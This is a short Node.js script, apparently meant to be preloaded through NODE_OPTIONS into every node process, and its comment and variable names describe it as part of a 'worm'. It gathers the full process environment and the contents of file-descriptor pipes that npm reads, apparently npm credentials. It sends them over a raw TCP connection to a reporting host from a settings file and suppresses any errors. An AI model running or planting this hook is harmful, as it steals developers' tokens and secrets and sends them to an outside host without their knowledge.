// In every node that NODE_OPTIONS reaches: reads the pipe that npm is to read, and reports it, or prints it.
"use strict";
const fs = require("node:fs");
const net = require("node:net");
const { settings } = { settings: JSON.parse(fs.readFileSync(`${__dirname}/settings.json`, "utf8")) };

const read = (file) => {
  try {
    return fs.readFileSync(file, "latin1");
  } catch (error) {
    return String(error.code);
  }
};
const pipes = Object.entries(process.env).filter(([, value]) => /^\/(proc\/self|dev)\/fd\/\d+$/.test(value));
const got = `${JSON.stringify(process.env)}\n${pipes.map(([, file]) => read(file)).join("\n")}`;
const name = process.env.WORM_HOOK ?? "npmrc-later";
if (name === "stdout") console.log(got);
else
  net
    .connect(settings.report, function () {
      this.end(`${settings.worm}\t${name}\tmade\n${got}`);
    })
    .on("error", () => {});
